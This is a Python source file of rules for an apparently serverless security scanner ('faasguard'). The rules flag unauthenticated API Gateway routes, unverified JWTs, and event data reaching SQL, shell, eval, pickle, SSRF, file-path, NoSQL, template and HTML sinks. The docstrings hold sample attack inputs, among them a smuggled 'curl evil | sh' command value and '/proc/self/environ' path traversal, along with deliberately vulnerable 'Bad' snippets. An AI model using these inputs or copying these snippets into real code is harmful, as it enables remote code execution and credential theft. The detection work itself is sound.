"""Rules of the `injection` category: event data reaching what it should not.

Configuration-level rules (FG-INJ-001…009) look at the API front door: who may
call a route, and whether API Gateway validates what they send.
"""

from __future__ import annotations

from collections.abc import Iterator

from faasguard.code.facts import TaintKind, auth_in_code, code_facts, flow_message, flow_related
from faasguard.findings import Related, Severity
from faasguard.model import Api, Application, Route
from faasguard.registry import Hit, rule
from faasguard.rules.wording import fix

_BODY_METHODS = {"POST", "PUT", "PATCH", "ANY"}


def _routes(app: Application) -> Iterator[tuple[Api, Route]]:
    """Every route a caller can reach, whether or not it invokes a function of this application.

    Left out: CORS preflight (OPTIONS), WebSocket routes other than ``$connect`` (authorization
    is decided once, on connect), mock integrations (API Gateway answers them itself), and
    routes of a private REST API that invoke nothing of this application.
    """
    for api in app.apis:
        for route in api.routes:
            if route.method == "OPTIONS" or route.integration == "mock":
                continue
            if api.kind == "websocket" and route.path != "$connect":
                continue
            if route.function is None and api.endpoint_type == "PRIVATE":
                continue
            yield api, route


# What a route calls when it is not a function of the application, for messages; and how sure
# that is: a function or an AWS service behind an open route is as exposed as a function of the
# template (medium); an HTTP backend may authenticate by itself, an unknown integration is unknown (low).
_BACKENDS = {
    "lambda": ("invokes a function not defined in this source", None),
    "aws": ("calls an AWS service directly", None),
    "http": ("proxies to an HTTP backend", Severity.LOW),
    None: ("has no integration in this source", Severity.LOW),
}


def _target(route: Route) -> str:
    if route.function is not None:
        return f"invokes function {route.function}"
    return _BACKENDS.get(route.integration, _BACKENDS[None])[0]


def _unknown_backend_severity(route: Route) -> Severity | None:
    return None if route.function is not None else _BACKENDS.get(route.integration, _BACKENDS[None])[1]


@rule("FG-INJ-001", category="injection", severity=Severity.MEDIUM, title="API route has no authorizer", over="apis")
def route_without_authorizer(app: Application) -> Iterator[Hit]:
    """
    An API Gateway route that invokes a function has no authorization — no IAM,
    Cognito, JWT or Lambda authorizer — and no API key.

    Anyone on the internet can send the function any event they like: every
    injection, deserialization or SSRF flaw in the handler is one unauthenticated
    request away, and the function's role does the attacker's bidding.

    Bad:

    ```yaml
    Events:
      CreateOrder:
        Type: Api
        Properties: {Path: /orders, Method: post}
    ```

    Fix: put an authorizer in front of the route, for example

    ```yaml
    Api:
      Type: AWS::Serverless::Api
      Properties:
        Auth:
          DefaultAuthorizer: Cognito
          Authorizers:
            Cognito: {UserPoolArn: !GetAtt Users.Arn}
    ```

    or `AuthorizationType: AWS_IAM` / a `JWT` authorizer on HTTP APIs. Routes that
    must stay public (a health check, a public read) can be suppressed one by one.

    Every route is checked, also when no function of the same source is behind it (an
    API stack apart from its functions, an HTTP proxy, a direct AWS service
    integration): medium when it reaches a function or an AWS service, low when the
    backend is an HTTP endpoint or not in the source. A route of a private REST API is
    low: only callers inside a VPC, through an endpoint its resource policy allows,
    reach it.
    """
    for api, route in _routes(app):
        if route.authorization != "NONE" or route.api_key_required:
            continue
        check = auth_in_code(app, route.function)
        if check is not None:  # the handler verifies a JWT or a signature itself: not "anyone can call it"
            yield Hit(
                loc=route.loc,
                message=f"Route {route.method} {route.path} of API {api.id} has no authorizer; function {route.function} "
                f"authenticates in code ({check.what}: {check.call} at {check.loc})",
                remediation=_authorizer_fix(app.format, api, route, api_key=False)
                + " (optional: the handler's own check must run before any other work on every path)",
                resource=api.id,
                function=route.function,
                severity=Severity.INFO,
                key=f"{route.method} {route.path}",
                related=(Related(check.loc.path, check.loc.line, f"{check.what}: {check.call}"),),
            )
            continue
        if api.private:
            yield Hit(
                loc=route.loc,
                message=f"Route {route.method} {route.path} of private API {api.id} {_target(route)} without any "
                "authorization: any caller that reaches the API through a VPC endpoint its resource policy allows "
                "can call it",
                remediation=_authorizer_fix(app.format, api, route, api_key=False)
                + ", or scope the API's resource policy to the VPC endpoints and principals that need it",
                resource=api.id,
                function=route.function,
                severity=Severity.LOW,
                key=f"{route.method} {route.path}",
            )
            continue
        yield Hit(
            loc=route.loc,
            message=f"Route {route.method} {route.path} of API {api.id} invokes function {route.function} "
            "without any authorization: anyone can call it"
            if route.function
            else f"Route {route.method} {route.path} of API {api.id} has no authorization, so anyone can call it; "
            f"it {_target(route)}",
            remediation=_authorizer_fix(app.format, api, route, api_key=False),
            resource=api.id,
            function=route.function,
            severity=_unknown_backend_severity(route),
            key=f"{route.method} {route.path}",
        )


def _authorizer_fix(fmt: str, api: Api, route: Route, *, api_key: bool) -> str:
    where = f"{route.method} {route.path}"
    rest = api.kind == "rest"
    keep = "; keep the API key for usage plans" if api_key else ""
    return fix(
        fmt,
        sam=f"Add an authorizer (Cognito, JWT, Lambda or AWS_IAM) to {where}"
        + (keep or f", or a DefaultAuthorizer on {api.id}"),
        cfn=f"Add an authorizer (Cognito, JWT, Lambda or AWS_IAM) to {where}{keep}",
        cdk=f"Pass an authorizer (apigateway.CognitoUserPoolsAuthorizer, TokenAuthorizer or AuthorizationType.IAM) "
        f"to addMethod for {where}, or defaultMethodOptions on {api.id}{keep}"
        if rest
        else f"Pass an authorizer (HttpJwtAuthorizer, HttpLambdaAuthorizer or HttpIamAuthorizer) to addRoutes for "
        f"{where}, or defaultAuthorizer on {api.id}{keep}",
        terraform=f'Set authorization = "COGNITO_USER_POOLS", "CUSTOM" or "AWS_IAM" (with authorizer_id) on the '
        f"aws_api_gateway_method of {where}{keep}"
        if rest
        else f'Set authorization_type = "JWT", "CUSTOM" or "AWS_IAM" (with authorizer_id) on the aws_apigatewayv2_route '
        f"of {where}{keep}",
        serverless=f"Add an authorizer to the http event of {where} (authorizer: aws_iam, a Cognito user pool ARN "
        f"or a Lambda authorizer function){keep}"
        if rest
        else f"Add authorizer.name (a JWT or Lambda authorizer of provider.httpApi.authorizers) to the httpApi event "
        f"of {where}{keep}",
    )


@rule("FG-INJ-002", category="injection", severity=Severity.LOW, title="REST API does not validate request bodies", over="apis")
def body_without_validation(app: Application) -> Iterator[Hit]:
    """
    A REST API method that takes a body (`POST`, `PUT`, `PATCH`, `ANY`) has no
    request validator.

    API Gateway can reject malformed requests against a JSON schema before they
    reach the function. Without a validator every payload — oversized, wrongly
    typed, carrying unexpected fields or operators — goes straight into the
    handler, which is then the only line of defence against injection. Medium
    when the route is also unauthenticated.

    Bad: a `POST` method with no `RequestValidatorId`, or an OpenAPI operation
    with no `x-amazon-apigateway-request-validator`.

    Fix:

    ```yaml
    BodyValidator:
      Type: AWS::ApiGateway::RequestValidator
      Properties: {RestApiId: !Ref Api, ValidateRequestBody: true, ValidateRequestParameters: true}
    CreateOrder:
      Type: AWS::ApiGateway::Method
      Properties:
        RequestValidatorId: !Ref BodyValidator
        RequestModels: {application/json: !Ref OrderModel}
    ```

    In SAM, `RequestModel: {Model: Order, ValidateBody: true}` on the `Api` event.

    Routes whose integration is not a function of the same source are checked too
    (low, whatever their authorization).
    """
    for api, route in _routes(app):
        if api.kind != "rest" or route.method not in _BODY_METHODS or route.request_validator is not False:
            continue
        open_route = route.authorization == "NONE" and not route.api_key_required and not api.private
        receiver = f"function {route.function}" if route.function else "its integration"
        yield Hit(
            loc=route.loc,
            message=f"{route.method} {route.path} of REST API {api.id} passes request bodies to {receiver} "
            "without validating them" + (" (and the route is unauthenticated)" if open_route else ""),
            remediation=fix(
                app.format,
                cfn=f"Add a request validator with ValidateRequestBody: true and a request model to {route.method} "
                f"{route.path} (SAM: RequestModel with ValidateBody: true)",
                cdk=f"Pass requestValidatorOptions: {{validateRequestBody: true}} and requestModels: "
                f"{{'application/json': model}} to addMethod('{route.method}') of {route.path}",
                terraform='Add resource "aws_api_gateway_request_validator" with validate_request_body = true, and set '
                f"request_validator_id and request_models on the aws_api_gateway_method of {route.method} {route.path}",
                serverless=f"Set request.schemas.application/json to a JSON schema on the http event of {route.method} "
                f"{route.path} (the Framework then validates the body)",
            ),
            resource=api.id,
            function=route.function,
            severity=Severity.MEDIUM if open_route and route.function else None,
            key=f"{route.method} {route.path}",
        )


@rule("FG-INJ-003", category="injection", severity=Severity.LOW, title="API route is protected by an API key only", over="apis")
def api_key_only(app: Application) -> Iterator[Hit]:
    """
    The route requires an API key but no authorizer.

    API keys identify a client for usage plans; they are not authentication.
    They travel in a header, are embedded in front-end code and shared between
    clients, and cannot be scoped to a user. AWS advises against using them for
    authorization.

    Bad:

    ```yaml
    Auth:
      ApiKeyRequired: true
    ```

    Fix: keep the key for throttling and quotas, and add an authorizer (Cognito,
    JWT, Lambda or `AWS_IAM`) that authenticates the caller.
    """
    for api, route in _routes(app):
        if route.authorization != "NONE" or not route.api_key_required:
            continue
        yield Hit(
            loc=route.loc,
            message=f"Route {route.method} {route.path} of API {api.id} invokes function {route.function} "
            "with only an API key as protection"
            if route.function
            else f"Route {route.method} {route.path} of API {api.id} is protected by an API key only; it {_target(route)}",
            remediation=_authorizer_fix(app.format, api, route, api_key=True),
            resource=api.id,
            function=route.function,
            key=f"{route.method} {route.path}",
        )


# -- code: event data reaching dangerous sinks (faasguard.code facts) ------------------------------------


@rule(
    "FG-INJ-004",
    category="injection",
    severity=Severity.MEDIUM,
    title="Open route trusts a JWT it never verifies",
    over="code",
)
def unverified_jwt(app: Application) -> Iterator[Hit]:
    """
    A route with no authorizer (or a function URL with `AuthType: NONE`) invokes a
    function whose only look at the caller is a JWT decoded without checking its
    signature: `jwt.decode(token, options={"verify_signature": False})`,
    `verify=False`, `algorithms=["none"]`, `jose.jwt.get_unverified_claims`,
    `jsonwebtoken.decode` or `jwt-decode`. Anyone can write a token with any `sub`,
    `groups` or `scope` they like; whatever the code decides from those claims, the
    caller decided (CWE-347).

    A Lambda authorizer (its handler answers with a `policyDocument` or
    `isAuthorized`) that decides on such a token is reported at high: the claims it
    never checked are the gate of every route behind it. In a handler file no
    template names (unknown trigger) that is medium.

    Bad: `claims = jwt.decode(token, options={"verify_signature": False})` behind
    `Auth: {Authorizer: NONE}`

    Fix: verify the token with the issuer's key (`jwt.decode(token, key,
    algorithms=["RS256"], audience=...)` with `jwt.PyJWKClient`, `jsonwebtoken.verify`
    or aws-jwt-verify), or put a Cognito/JWT authorizer in front of the route and read
    the verified claims from `requestContext.authorizer`. A function that also
    verifies the token, or sits behind an authorizer, is not reported.
    """
    open_by: dict[str, list[str]] = {}
    for api, route in _routes(app):
        if route.function and route.authorization == "NONE" and not route.api_key_required:
            open_by.setdefault(route.function, []).append(f"route {route.method} {route.path} of API {api.id}")
    for fn in app.functions:
        if (fn.url_auth_type or "").upper() == "NONE":
            open_by.setdefault(fn.name, []).append("its function URL (AuthType NONE)")
    for function, facts in code_facts(app):
        check = next((c for c in facts.auth_checks if not c.verified), None)
        if check is None or any(c.verified for c in facts.auth_checks):
            continue
        name = function or facts.function
        if facts.authorizer:  # the authorizer's answer is the gate: what it decodes unverified, the caller chose
            message = (f"Lambda authorizer {name} decides on a JWT read with {check.call} at {check.loc} without checking "
                       "its signature: anyone can forge a token with the claims it allows")
            severity = Severity.HIGH if function is not None else Severity.MEDIUM
        elif function is not None and function in open_by:
            message = (f"Function {function} reads the caller's JWT with {check.call} at {check.loc} without checking its "
                       f"signature, and {', '.join(open_by[function])} has no authorizer: anyone can forge the token's claims")
            severity = None
        else:
            continue
        python = facts.language == "python"
        yield Hit(
            loc=check.loc,
            message=message,
            severity=severity,
            remediation=("Verify the token with the issuer's key: jwt.decode(token, key, algorithms=[\"RS256\"], "
                         "audience=...) with jwt.PyJWKClient(jwks_url)" if python else
                         "Verify the token with the issuer's key: jsonwebtoken.verify(token, key, { algorithms: "
                         "[\"RS256\"] }) or aws-jwt-verify's CognitoJwtVerifier")
            + ("" if facts.authorizer else ", or put a Cognito/JWT authorizer in front of the function and read "
               "requestContext.authorizer"),
            resource=check.call,
            function=function,
            key=check.call,
            related=(Related(check.loc.path, check.loc.line, f"{check.what}: {check.call}"),),
        )


def _code_flows(app: Application, kind: TaintKind, remediation: str) -> Iterator[Hit]:
    """One finding per vulnerable call site; the second call with the same sink and source gets a key of its own."""
    for function, facts in code_facts(app):
        seen: dict[str, int] = {}
        for flow in facts.flows:
            if flow.kind != kind:
                continue
            name = function or facts.function
            key = f"{flow.kind}:{flow.sink}:{flow.source}"
            seen[key] = seen.get(key, 0) + 1
            yield Hit(
                loc=flow.sink_loc,
                message=flow_message(flow, name),
                remediation=remediation,
                resource=flow.sink,
                function=function,
                key=key if seen[key] == 1 else f"{key}#{seen[key]}",
                related=flow_related(flow),
                # a loose handler file: no template says who can send it events, so it cannot fail CI on its own
                severity=Severity.MEDIUM if app.format == "source" else None,
            )


@rule("FG-INJ-010", category="injection", severity=Severity.CRITICAL, title="SQL built from event data", over="code")
def sql_injection(app: Application) -> Iterator[Hit]:
    """
    A SQL statement passed to `cursor.execute`, `query` or `sqlalchemy.text` is built
    from event data by concatenation or formatting, so a request can change the query.

    Bad: `cursor.execute("SELECT * FROM orders WHERE customer = '" + body["customer"] + "'")`

    Fix: pass the value as a parameter: `cursor.execute("… WHERE customer = %s", (customer,))`
    (`pool.query("… WHERE id = $1", [id])` in Node.js).
    """
    yield from _code_flows(app, TaintKind.SQL, "Use a parameterised query: keep the SQL text constant and pass event values as "
                           "parameters (cursor.execute(sql, (value,)) / pool.query(sql, [value]))")


@rule("FG-INJ-011", category="injection", severity=Severity.CRITICAL, title="Shell command built from event data", over="code")
def command_injection(app: Application) -> Iterator[Hit]:
    """
    Event data reaches a shell: `os.system`, `os.popen`, `subprocess.*(shell=True)`,
    `child_process.exec/execSync`, or `spawn` with `shell: true`. A value such as
    `x; curl evil | sh` runs arbitrary commands with the function's role.

    Bad: `execSync("wkhtmltopdf /tmp/" + event.queryStringParameters.url)`

    Fix: run the program without a shell and pass arguments as a list
    (`subprocess.run(["tar", "czf", out, name])`, `execFileSync("wkhtmltopdf", [url])`),
    after checking the value against an allow-list.
    """
    yield from _code_flows(app, TaintKind.SHELL, "Call the program without a shell, with arguments as a list "
                           "(subprocess.run([...]) / execFile(cmd, [args])), and validate the value against an allow-list")


@rule("FG-INJ-012", category="injection", severity=Severity.CRITICAL, title="Event data evaluated as code", over="code")
def code_injection(app: Application) -> Iterator[Hit]:
    """
    Event data reaches `eval`, `exec`, `compile`, `Function(...)` or `vm.runIn*`: the
    caller can run any code inside the function.

    Fix: never evaluate input. Parse data with `json.loads` / `JSON.parse`, or map the
    input to a fixed set of operations.
    """
    yield from _code_flows(app, TaintKind.CODE, "Do not evaluate event data; parse it as data (json.loads / JSON.parse) "
                           "or dispatch to a fixed table of allowed operations")


@rule("FG-INJ-013", category="injection", severity=Severity.HIGH, title="Unsafe deserialisation of event data", over="code")
def unsafe_deserialization(app: Application) -> Iterator[Hit]:
    """
    Event data is deserialised with a format that can construct arbitrary objects:
    `pickle.loads`, `yaml.load` without `SafeLoader`, `node-serialize.unserialize`.
    A crafted payload runs code during deserialisation.

    Fix: use `json`, or `yaml.safe_load`; never unpickle data from a request or a bucket.
    """
    yield from _code_flows(app, TaintKind.DESERIALIZATION, "Use a data-only format: json.loads, yaml.safe_load "
                           "(or yaml.load(..., Loader=yaml.SafeLoader)); never pickle/unserialize input")


@rule(
    "FG-INJ-014",
    category="injection",
    severity=Severity.HIGH,
    title="Server-side request forgery: URL from event data",
    over="code",
)
def ssrf(app: Application) -> Iterator[Hit]:
    """
    The function fetches a URL taken from the event (`requests.get`, `urlopen`, `fetch`,
    `axios`, `http.get`). An attacker can make it call the instance metadata endpoint,
    internal services in the VPC, or anything its network allows.

    Fix: check the host against an allow-list before the request
    (`if urlparse(url).hostname not in ALLOWED_HOSTS: return 400`).
    """
    yield from _code_flows(app, TaintKind.SSRF, "Check the URL's scheme and host against an allow-list of the services the "
                           "function may call before making the request")


@rule("FG-INJ-015", category="injection", severity=Severity.HIGH, title="Path traversal: file path from event data", over="code")
def path_traversal(app: Application) -> Iterator[Hit]:
    """
    A file path built from event data is opened (`open`, `fs.readFile`, `send_file`):
    `../../var/task/config.json` or `/proc/self/environ` reads code and credentials.

    Fix: reduce the value to a base name (`os.path.basename`, `path.basename`), or look
    it up in an allow-list, and join it to a fixed directory.
    """
    yield from _code_flows(app, TaintKind.PATH, "Reduce the value to a base name (os.path.basename / path.basename) or look it "
                           "up in an allow-list, then join it to a fixed directory")


@rule("FG-INJ-016", category="injection", severity=Severity.HIGH, title="NoSQL query built from event data", over="code")
def nosql_injection(app: Application) -> Iterator[Hit]:
    """
    A MongoDB query takes an object parsed from the request (`{"$ne": null}` matches every
    document), or a DynamoDB expression (`FilterExpression`, `UpdateExpression` …) is
    built by string concatenation from event data.

    Fix: build the query from typed, validated fields (`{"user": str(body["user"])}`) and
    pass values as DynamoDB `ExpressionAttributeValues` placeholders (`:v`).
    """
    yield from _code_flows(app, TaintKind.NOSQL, "Build queries from validated scalar fields and pass values through "
                           "ExpressionAttributeValues placeholders (:value) instead of concatenating them")


@rule("FG-INJ-017", category="injection", severity=Severity.HIGH, title="Template built from event data", over="code")
def template_injection(app: Application) -> Iterator[Hit]:
    """
    Event data is used as template *source* (`jinja2.Template(body)`,
    `render_template_string`, `ejs.render`), so `{{ ... }}` in a request runs template
    code on the server.

    Fix: keep templates constant and pass event data as render variables
    (`Template(FIXED).render(name=body["name"])`).
    """
    yield from _code_flows(app, TaintKind.TEMPLATE, "Keep the template text constant and pass event data only as render "
                           "variables")


@rule(
    "FG-INJ-018",
    category="injection",
    severity=Severity.HIGH,
    title="Reflected XSS: HTML response built from event data",
    over="code",
)
def reflected_xss(app: Application) -> Iterator[Hit]:
    """
    The handler answers API Gateway (or a function URL) with `Content-Type: text/html`
    and a body that contains request data without HTML escaping, or an Express
    route behind serverless-http sends such HTML with `res.send`. A link with
    `<script>` in the query string runs in the victim's browser, on your domain.

    Bad:

    ```python
    return {"statusCode": 200, "headers": {"Content-Type": "text/html"},
            "body": "<h1>Hello " + event["queryStringParameters"]["name"] + "</h1>"}
    ```

    Fix: escape every value put into HTML (`html.escape`, `markupsafe.escape`,
    `escape-html`), or render with an auto-escaping template engine; return JSON
    (`application/json`) when the client is a script.
    """
    yield from _code_flows(app, TaintKind.XSS, "Escape event data before putting it into HTML (html.escape / escape-html) "
                           "or render with an auto-escaping template; serve JSON when the caller is a script")
